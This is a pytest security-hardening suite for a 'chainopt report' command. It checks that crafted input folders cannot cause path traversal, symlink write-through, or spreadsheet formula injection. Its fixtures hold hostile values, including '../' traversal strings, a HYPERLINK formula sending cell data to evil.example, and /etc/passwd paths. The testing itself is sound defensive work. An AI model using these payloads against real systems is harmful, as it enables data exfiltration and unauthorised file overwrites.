"""``chainopt report`` on a folder someone sent: every file it writes lands directly inside
the output folder, replaces a link in its way instead of writing through it, and no
text of the folder becomes a formula in ``comparison.xlsx``.

The hostile folders are the review's reproducers (atkA, atkB, atkC, atkF) rebuilt in
``tmp_path``: a real results folder and a real comparison of small_chain with the port
project, edited by hand. Expected outcomes: exit 0, nothing new next to the folder, the
decoy a link pointed to unchanged, the link now a regular file, the cell text (type
``s``)."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from chainopt import api
from chainopt.report.compare import TEXT_FILE
from tests.conftest import as_written_before_checksums
from tests.hardening.conftest import cli

DECOY = b"decoy: must stay as it is\n"
ESCAPE = "x/../../escaped"
FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+1+2", "@SUM(A1)", "-2+3"]
SCENARIO = Path(__file__).parents[2] / "scenarios" / "small_port_expansion.yaml"


@pytest.fixture(scope="module")
def solved(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("solved")
    api.run("small_chain", out=out, name="small")
    return out / "small"


@pytest.fixture(scope="module")
def compared(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("compared")
    _, _, folder = api.compare(["small_chain", str(SCENARIO)], out=out, name="port", jobs=1)
    return folder


def _received(src: Path, tmp_path: Path) -> Path:
    """A copy of ``src`` as ``tmp_path/recv`` with a decoy file next to it."""
    (tmp_path / "decoy.png").write_bytes(DECOY)
    return Path(shutil.copytree(src, tmp_path / "recv"))


def _rerecorded(recv: Path) -> None:
    """The comparison's record (text_columns.json) rewritten for every CSV now in
    ``recv``, as a sender can: its checksums catch damage, not a hostile sender, so the
    report's own defences are tested behind them."""
    spec = recv / TEXT_FILE
    record = json.loads(spec.read_text())
    for p in recv.glob("*.csv"):
        df = pd.read_csv(p)
        record["table_files"][p.stem] = {"file": p.name, "rows": len(df), "sha256":
                                         hashlib.sha256(p.read_bytes()).hexdigest()}
        record["text_columns"][p.stem] = [c for c in df.columns
                                         if not pd.api.types.is_numeric_dtype(df[c])]
    spec.write_text(json.dumps(record))


def _nothing_outside(tmp_path: Path) -> None:
    assert sorted(p.name for p in tmp_path.iterdir()) == ["decoy.png", "recv"]
    assert (tmp_path / "decoy.png").read_bytes() == DECOY


def _replaced(link: Path) -> None:
    assert not link.is_symlink() and link.is_file()
    assert link.read_bytes() != DECOY


def test_project_name_of_a_comparison_stays_in_the_folder(compared, tmp_path):
    """atkA: an effect ``x/../../escaped`` (and a folder planted so that the path resolves)
    wrote ``report-onepager-0-...-x/../../escaped.png`` next to the comparison."""
    recv = _received(compared, tmp_path)
    eco = recv / "economics.csv"
    eco.write_text(eco.read_text().replace("far_east_port", ESCAPE))
    _rerecorded(recv)
    (recv / "report-onepager-0-small_port_expansion-x").mkdir()
    cli("report", recv, "--png", "--svg", code=0)
    _nothing_outside(tmp_path)
    assert not (tmp_path.parent / "escaped.png").exists()
    made = {p.name for p in recv.glob("report-onepager-*")}
    assert {"report-onepager-0-small_port_expansion-x_______escaped.png",
            "report-onepager-0-small_port_expansion-x_______escaped.svg"} <= made


def test_manifest_periods_stay_in_the_folder(solved, tmp_path):
    """atkC: a manifest period ``x/../../esc`` named ``report-sankey-x/../../esc.svg``;
    the deck drew the same charts into a temporary folder and failed there. Its
    ``periods`` alone edited, the folder is now refused as damaged (they disagree with
    its ``period_table``), nothing written; renamed everywhere (manifest and tables) in a
    folder written before the tables' checksums, the charts are drawn and named inside
    the folder."""
    recv = _received(solved, tmp_path)
    manifest = json.loads((recv / "manifest.json").read_text())
    manifest["periods"][0] = "x/../../esc"
    (recv / "manifest.json").write_text(json.dumps(manifest))
    for d in ("report-sankey-x", "report-map-x"):
        (recv / d).mkdir()
    before = sorted(p.name for p in recv.iterdir())
    _code, text = cli("report", recv, "--svg", "--pptx", code=1)
    assert "damaged results folder: manifest.json lists the periods x/../../esc" in text
    assert sorted(p.name for p in recv.iterdir()) == before
    _nothing_outside(tmp_path)
    as_written_before_checksums(recv)
    manifest = json.loads((recv / "manifest.json").read_text())
    manifest["period_table"][0]["period"] = "x/../../esc"
    (recv / "manifest.json").write_text(json.dumps(manifest))
    for path in recv.glob("*.csv"):
        df = pd.read_csv(path, dtype=str, keep_default_na=False)
        if "period" in df.columns:
            df["period"] = df["period"].replace("p2026", "x/../../esc")
            df.to_csv(path, index=False)
    for path in recv.glob("*.parquet"):
        df = pd.read_parquet(path)
        if "period" in df.columns:
            df["period"] = df["period"].replace("p2026", "x/../../esc")
            df.to_parquet(path, index=False)
    cli("report", recv, "--svg", "--pptx", code=0)
    _nothing_outside(tmp_path)
    assert (recv / "report-sankey-x_______esc.svg").is_file()
    assert (recv / "report.pptx").is_file()


#: the chart a link is planted at (atkA, atkB), and every other file report writes
PLANTED = {"run": "report-capacity.png", "comparison": "report-cashflow.png"}
LINKED = {"run": ["report.html", "report.pptx", "report-deck.html", "report-product_mix.png"],
          "comparison": ["report.html", "report.pptx", "report-deck.html",
                         "report-objective.png", "comparison.xlsx"]}


@pytest.fixture(scope="module", params=["run", "comparison"])
def reported_over_links(request, solved, compared, tmp_path_factory):
    """A received run (or comparison) with links to the decoy outside planted at
    PLANTED and LINKED, then ``report --png --pptx``: one report for the two tests below.
    Returns (kind, the folder holding the decoy and recv, recv)."""
    kind = request.param
    tmp = tmp_path_factory.mktemp(f"links-{kind}")
    recv = _received(solved if kind == "run" else compared, tmp)
    for name in (PLANTED[kind], *LINKED[kind]):
        (recv / name).symlink_to("../decoy.png")
    cli("report", recv, "--png", "--pptx", code=0)
    return kind, tmp, recv


def test_a_planted_link_is_replaced_not_written_through(reported_over_links):
    """atkA, atkB: ``report-capacity.png`` / ``report-cashflow.png`` linking to a file
    outside; the chart overwrote that file."""
    kind, tmp, recv = reported_over_links
    link = recv / PLANTED[kind]
    _nothing_outside(tmp)
    _replaced(link)
    assert link.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_no_report_file_writes_through_a_link(reported_over_links):
    """Every file report writes (HTML, charts, deck, its preview, the workbook) replaces
    a link in its way."""
    kind, tmp, recv = reported_over_links
    _nothing_outside(tmp)
    for name in LINKED[kind]:
        _replaced(recv / name)


def test_comparison_workbook_cells_are_text(compared, tmp_path):
    """atkF: ``=HYPERLINK(...)`` in a comparison CSV became a live formula in
    ``comparison.xlsx``."""
    recv = _received(compared, tmp_path)
    pd.DataFrame({"name": FORMULAS, "value": [1.0, -2.0, 3.0, 4.0]}).to_csv(
        recv / "evil.csv", index=False)
    _rerecorded(recv)
    cli("report", recv, "--pptx", code=0)
    ws = load_workbook(recv / "comparison.xlsx")["evil"]
    cells = [ws.cell(row=i, column=1) for i in range(2, 2 + len(FORMULAS))]
    assert [c.value for c in cells] == FORMULAS
    assert [c.data_type for c in cells] == ["s"] * len(FORMULAS)
    assert ws.cell(row=3, column=2).value == -2  # numbers stay numbers
    _nothing_outside(tmp_path)


def test_comparison_csv_name_is_a_valid_sheet_title(compared, tmp_path):
    """A CSV named ``a[b]:c.csv`` in a comparison made openpyxl raise (traceback). (A
    comparison's record names only tables of plain names; a folder written before the
    record, as here, reads every CSV in it.)"""
    recv = _received(compared, tmp_path)
    pd.DataFrame({"k": ["a"], "v": [1.0]}).to_csv(recv / "a[b]:c.csv", index=False)
    (recv / TEXT_FILE).unlink()
    (recv / "projects_built.csv").unlink(missing_ok=True)  # (written beside checksums)
    cli("report", recv, "--pptx", code=0)
    assert "a_b__c" in load_workbook(recv / "comparison.xlsx", read_only=True).sheetnames


def test_comparison_csv_wider_than_a_sheet_is_refused(compared, tmp_path):
    """A CSV of 16,385 columns in a comparison folder written before the record: Excel's
    sheet holds 16,384 (A to XFD), and the workbook's sheet would be one Excel cannot
    open. Exit 1 naming the table, and no comparison.xlsx."""
    recv = _received(compared, tmp_path)
    (recv / "wide.csv").write_text(",".join(f"c{i}" for i in range(16_385)) + "\n"
                                   + ",".join("1" * 16_385) + "\n")
    (recv / TEXT_FILE).unlink()
    (recv / "projects_built.csv").unlink(missing_ok=True)  # (written beside checksums)
    _code, text = cli("report", recv, "--pptx", code=1)
    assert "table wide: 16,385 columns, more than the 16,384 an Excel sheet holds" in text
    assert not (recv / "comparison.xlsx").exists()


@pytest.mark.parametrize("name", ["manifest.json", "kpis.csv", "report"])
def test_out_must_name_an_html_file(solved, tmp_path, name):
    """``report FOLDER --out FOLDER/manifest.json`` replaced the run's manifest with the
    report's HTML (exit 0), and the folder was then damaged for verify, explain and
    report alike; any file could be replaced so. By hand: the file named is not an
    .html file, so nothing is written: exit 1 naming --out, the file's bytes as they
    were, no report.html and no chart next to it (the folder's listing unchanged)."""
    recv = _received(solved, tmp_path)
    target = recv / name
    if not target.exists():
        target.write_bytes(DECOY)
    before = {p.name: p.read_bytes() for p in recv.iterdir()}
    _code, text = cli("report", recv, "--out", target, "--png", code=1)
    assert f"--out {target}" in text and "does not end in .html" in text
    assert {p.name: p.read_bytes() for p in recv.iterdir()} == before
    _nothing_outside(tmp_path)
    cli("verify", recv, code=0)


@pytest.mark.parametrize("kind", ["run", "comparison"])
def test_a_report_failing_half_way_leaves_the_earlier_one(solved, compared, tmp_path,
                                                          monkeypatch, kind):
    """A report written with --pptx, then again with --png and its deck failing (a
    broken python-pptx, a full disk): the second wrote report.html and the PNGs, then
    stopped at the deck, leaving a new HTML and new PNGs beside the old deck. Now all or
    none: every file keeps the first report's bytes, no PNG is added, and no temporary
    folder is left."""
    from chainopt.report import deck

    recv = _received(solved if kind == "run" else compared, tmp_path)
    cli("report", recv, "--pptx", code=0)
    files = {p.name: p.read_bytes() for p in recv.glob("report*")}
    assert {"report.html", "report.pptx", "report-deck.html"} <= set(files)
    assert not any(n.endswith(".png") for n in files)
    (recv / "report.html").write_text("the first report\n")
    files["report.html"] = b"the first report\n"

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(deck, "run_deck" if kind == "run" else "compare_deck", broken)
    with pytest.raises(OSError):
        api.report(recv, static=["png"], pptx=True)
    assert {p.name: p.read_bytes() for p in recv.glob("report*")} == files
    assert not [p for p in recv.iterdir() if p.name.startswith(".")]



SMALL_CHAIN = Path(__file__).parents[2] / "chainopt" / "data" / "small_chain"


def _naming(recv: Path, source: Path | str) -> None:
    """``recv``'s manifest naming ``source`` as its source and case (as a sender can
    write it), as a folder written before the checksums and the sites table."""
    mf = recv / "manifest.json"
    m = json.loads(mf.read_text())
    m.pop("table_files", None)
    m["source"] = m["case_origin"] = str(source)
    mf.write_text(json.dumps(m))
    (recv / "sites.csv").unlink(missing_ok=True)


def _map(recv: Path) -> str:
    """The map part of ``recv``'s report ("" without a map)."""
    text = api.report(recv)[0].read_text(encoding="utf-8")
    assert "secret_yard" not in text
    return text.split('id="fig-map"')[1].split('id="fig-')[0] if 'id="fig-map"' in text \
        else ""


def test_the_report_reads_no_case_but_the_runs_own(solved, tmp_path):
    """A results folder whose manifest names another case on this machine (its source and
    case_origin: the receiver's own case, here small_chain with a site 'secret_yard'
    added): the report put that case's sites on its map (every site of the sites table
    is drawn, so 'secret_yard' and its coordinates went into report.html) and its
    commodities into the Sankey. By hand: that case has one site more than the run's
    inputs, so it does not hash to the run's input_hash, is no input of the run, and
    nothing of it may show: no 'secret_yard' in the report, and no map (the folder has
    no sites table). The run's own case (a copy of small_chain: the same inputs) still
    gives the map, with nakhodka on it."""
    private = Path(shutil.copytree(SMALL_CHAIN, tmp_path / "private"))
    with (private / "sites.csv").open("a") as fh:
        fh.write("secret_yard,12.5,34.5,the receiver's own site\n")
    recv = _received(solved, tmp_path)
    _naming(recv, private)
    assert "nakhodka" not in _map(recv)
    _naming(recv, shutil.copytree(SMALL_CHAIN, tmp_path / "same"))
    assert "nakhodka" in _map(recv)


@pytest.mark.parametrize("named", ["/etc/passwd", "/etc", "../../x", "/dev/zero"])
def test_a_path_a_manifest_names_is_read_only_as_the_runs_case(solved, named):
    """run_case reads the recorded source only as a case (a folder with case.yaml, a
    scenario .yaml, a workbook) and uses it only if it hashes to the run's input_hash:
    a manifest naming a system file or a path outside gives no case (the report does
    without), never an error."""
    from chainopt.report.html import run_case

    m = json.loads((solved / "manifest.json").read_text())
    assert run_case(m) is not None  # the recorded source: the run's own case
    assert run_case({**m, "source": named, "case_origin": named}) is None


def test_a_folder_sent_without_its_case_keeps_the_sankey_in_mass(solved, tmp_path,
                                                                 monkeypatch):
    """A results folder received alone (its manifest's source names a case not on this
    machine) holds the case's commodity units itself (the ``commodities`` table: crude,
    ethane, hdpe in t, raw and sales gas in 1000m3, as small_chain's commodities.csv
    states them), so its report draws the Sankey by mass, as on the sender's machine,
    without reading any case (it fell back to value, the units being only in the case)."""
    from chainopt.report import html

    recv = _received(solved, tmp_path)
    mf = recv / "manifest.json"
    m = json.loads(mf.read_text())
    m["source"] = m["case_origin"] = str(tmp_path / "not_here")
    mf.write_text(json.dumps(m))
    units = pd.read_csv(recv / "commodities.csv").set_index("commodity")["unit"]
    assert units[["crude", "ethane", "hdpe"]].tolist() == ["t", "t", "t"]
    assert units[["raw_gas", "sales_gas"]].tolist() == ["1000m3", "1000m3"]

    def no_case(_manifest):
        raise AssertionError("the report read a case")

    monkeypatch.setattr(html, "run_case", no_case)
    text = api.report(recv)[0].read_text(encoding="utf-8")
    assert "Band widths in one measure: mass (kt/yr)" in text


def test_an_interrupted_staged_write_names_no_staged_file(tmp_path):
    """A report interrupted after drawing two of its files into its staging folder said
    `interrupted: nothing more written (.../.chainopt-tmp.staged.x/report.html, ...
    written before it)`: files of a folder then deleted. Now nothing it staged is
    counted as written; the file written to the folder itself before it still is."""
    from chainopt import atomic

    atomic.forget_written()
    before = atomic.write_text(tmp_path / "earlier.txt", "kept")

    def render(stage: Path) -> list[Path]:
        atomic.write_text(stage / "report.html", "<p>")
        atomic.write_text(stage / "report-x.png", "png")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        atomic.write_staged(tmp_path, render)
    assert atomic.written() == [before]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["earlier.txt"]
    atomic.forget_written()
